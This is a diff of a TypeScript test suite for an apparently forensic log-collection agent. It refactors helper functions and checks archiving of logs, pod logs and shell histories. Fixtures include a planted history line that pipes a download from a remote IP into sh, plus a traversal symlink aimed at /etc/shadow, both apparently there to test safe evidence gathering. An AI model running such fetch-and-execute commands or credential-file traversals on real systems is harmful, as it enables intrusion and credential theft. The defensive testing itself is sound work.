@@ -3,13 +3,14 @@ import { execFileSync } from 'node:child_process';
 import { createHash } from 'node:crypto';
 import { appendFile, mkdir, readFile, symlink, writeFile } from 'node:fs/promises';
 import { createServer } from 'node:net';
-import { dirname, join } from 'node:path';
-import { type TestContext, test } from 'node:test';
+import { join } from 'node:path';
+import { test } from 'node:test';
 import { logs } from '../../../agent/collectors/logs.ts';
 import { hostAt } from '../../../agent/host/host.ts';
+import { unpacked } from '../../helpers/archive.ts';
 import { type Collected, collect, rowsOf } from '../../helpers/collect.ts';
 import { python } from '../../helpers/programs.ts';
-import { temporaryFolder } from '../../helpers/temporary.ts';
+import { folderWith } from '../../helpers/temporary.ts';
 
 const ARCHIVES = { host: '70-log/host.tar.zst', pods: '70-log/pods.tar.zst', history: '70-log/history.tar.zst' };
 
@@ -18,25 +19,8 @@ interface Row {
   readonly impound: { readonly what: string; readonly archive: string; readonly member: string };
 }
 
-/** A host's root with these files: content by path. */
-async function rootWith(t: TestContext, files: Readonly<Record<string, string | Buffer>>): Promise<string> {
-  const root = await temporaryFolder(t);
-  for (const [path, content] of Object.entries(files)) {
-    await mkdir(dirname(join(root, path)), { recursive: true });
-    await writeFile(join(root, path), content);
-  }
-  return root;
-}
-
 function gather(root: string): Promise<Collected> {
   return collect(logs, { host: hostAt(root, { proc: '/proc', sys: '/sys' }) });
-}
-
-async function unpacked(t: TestContext, { artefacts }: Collected, archive: string): Promise<string> {
-  const folder = await temporaryFolder(t);
-  await writeFile(join(folder, 'archive.tar'), artefacts.get(archive) ?? '');
-  execFileSync('tar', ['-C', folder, '-xf', join(folder, 'archive.tar')]);
-  return folder;
 }
 
 function tableOf({ artefacts }: Collected): readonly Row[] {
@@ -60,7 +44,7 @@ test('each log is in its archive under its host path, and in the table with what
     'var/log/kubernetes/audit/audit.log': '{"kind":"Event"}\n',
     'var/log/dpkg.log': 'install\n',
   };
-  const root = await rootWith(t, files);
+  const root = await folderWith(t, files);
   await symlink('/run', join(root, 'var/run'));
   const collected = await gather(root);
   const rows = tableOf(collected);
@@ -73,7 +57,7 @@ test('each log is in its archive under its host path, and in the table with what
   assert.equal(whats.get('/var/log/audit/audit.log.1'), 'audit');
   assert.equal(whats.get('/run/utmp'), 'logins');
   assert.equal(whats.get('/run/cilium/tetragon/tetragon.log'), 'sensor');
-  const folder = await unpacked(t, collected, ARCHIVES.host);
+  const folder = await unpacked(t, collected.artefacts.get(ARCHIVES.host));
   assert.match(execFileSync('utmpdump', [join(folder, 'var/log/wtmp')], { stdio: 'pipe' }).toString(), /mallory/);
   for (const absent of ['70-log/journal.tar.zst', ARCHIVES.pods])
     assert.ok(collected.gaps.some(({ reason, name }) => reason === 'absent' && name === absent));
@@ -81,7 +65,7 @@ test('each log is in its archive under its host path, and in the table with what
 
 test("pods' logs come with the links to them and with what those lead to, each once", async (t) => {
   const pod = 'var/log/pods/shop_web-1_5f0f8d1e-0000-4000-8000-000000000001/web';
-  const root = await rootWith(t, {
+  const root = await folderWith(t, {
     [`${pod}/0.log`]: '2024-05-01T10:00:00.000000000Z stdout F hello\n',
     'var/lib/docker/containers/abc/abc-json.log': '{"log":"from docker"}\n',
   });
@@ -91,13 +75,13 @@ test("pods' logs come with the links to them and with what those lead to, each o
   const collected = await gather(root);
   const names = tableOf(collected).map(({ file }) => file.path);
   assert.equal(names.filter((name) => name === `/${pod}/0.log`).length, 1);
-  const folder = await unpacked(t, collected, ARCHIVES.pods);
+  const folder = await unpacked(t, collected.artefacts.get(ARCHIVES.pods));
   assert.match(await readFile(join(folder, 'var/lib/docker/containers/abc/abc-json.log'), 'utf8'), /from docker/);
   assert.ok(names.includes('/var/log/containers/web-1_shop_web-abc.log'));
 });
 
 test('what is no file in a log’s place is not opened, and is a gap', { timeout: 60_000 }, async (t) => {
-  const root = await rootWith(t, { 'var/log/syslog': 'here\n' });
+  const root = await folderWith(t, { 'var/log/syslog': 'here\n' });
   execFileSync('mkfifo', [join(root, 'var/log/auth.log')]);
   const server = createServer().listen(join(root, 'var/log/kern.log'));
   t.after(() => server.close());
@@ -113,7 +97,7 @@ test('what is no file in a log’s place is not opened, and is a gap', { timeout
 });
 
 test('a log that grows without end is cut at the size it had when it was opened', { timeout: 60_000 }, async (t) => {
-  const root = await rootWith(t, { 'var/log/syslog': 'first line\n' });
+  const root = await folderWith(t, { 'var/log/syslog': 'first line\n' });
   const path = join(root, 'var/log/syslog');
   await python(
     t,
@@ -121,7 +105,7 @@ test('a log that grows without end is cut at the size it had when it was opened'
     [path],
   );
   const collected = await gather(root);
-  const folder = await unpacked(t, collected, ARCHIVES.host);
+  const folder = await unpacked(t, collected.artefacts.get(ARCHIVES.host));
   const kept = await readFile(join(folder, 'var/log/syslog'));
   const all = await readFile(path);
   assert.ok(kept.length >= 11 && kept.length < all.length);
@@ -129,7 +113,7 @@ test('a log that grows without end is cut at the size it had when it was opened'
 });
 
 test('histories of all users come, by the homes that passwd names; one that leads nowhere is a link', async (t) => {
-  const root = await rootWith(t, {
+  const root = await folderWith(t, {
     'etc/passwd': 'root:x:0:0::/root:/bin/sh\nsvc:x:990:990::/srv/svc:/bin/sh\nx:x:1:1::/:/bin/sh\nbroken\n',
     'root/.bash_history': 'curl http://198.51.100.7/x | sh\n',
     'srv/svc/.zsh_history': ': 1700000000:0;id\n',
@@ -145,7 +129,7 @@ test('histories of all users come, by the homes that passwd names; one that lead
   await symlink('/dev/null', join(root, 'home/eve/.bash_history'));
   await symlink('../../../../../../../../etc/shadow', join(root, 'home/eve/.python_history'));
   const collected = await gather(root);
-  const folder = await unpacked(t, collected, ARCHIVES.history);
+  const folder = await unpacked(t, collected.artefacts.get(ARCHIVES.history));
   const rows = tableOf(collected);
   const paths = new Set(rows.map(({ file }) => file.path));
   for (const path of ['/root/.bash_history', '/srv/svc/.zsh_history', '/home/ann/.viminfo', '/home/eve/.bash_history'])
@@ -162,14 +146,14 @@ test('histories of all users come, by the homes that passwd names; one that lead
 });
 
 test('a sparse lastlog of 1 TiB takes moments, both its ends are kept, and the gap says how much was left', async (t) => {
-  const root = await rootWith(t, { 'var/log/lastlog': 'root was here' });
+  const root = await folderWith(t, { 'var/log/lastlog': 'root was here' });
   const path = join(root, 'var/log/lastlog');
   execFileSync('truncate', ['-s', '1T', path]);
   await appendFile(path, 'the last of them');
   const begun = performance.now();
   const collected = await gather(root);
   assert.ok(performance.now() - begun < 20_000);
-  const folder = await unpacked(t, collected, ARCHIVES.host);
+  const folder = await unpacked(t, collected.artefacts.get(ARCHIVES.host));
   const first = await readFile(join(folder, 'var/log/lastlog.first'));
   const last = await readFile(join(folder, 'var/log/lastlog'));
   assert.ok(first.subarray(0, 13).equals(Buffer.from('root was here')));
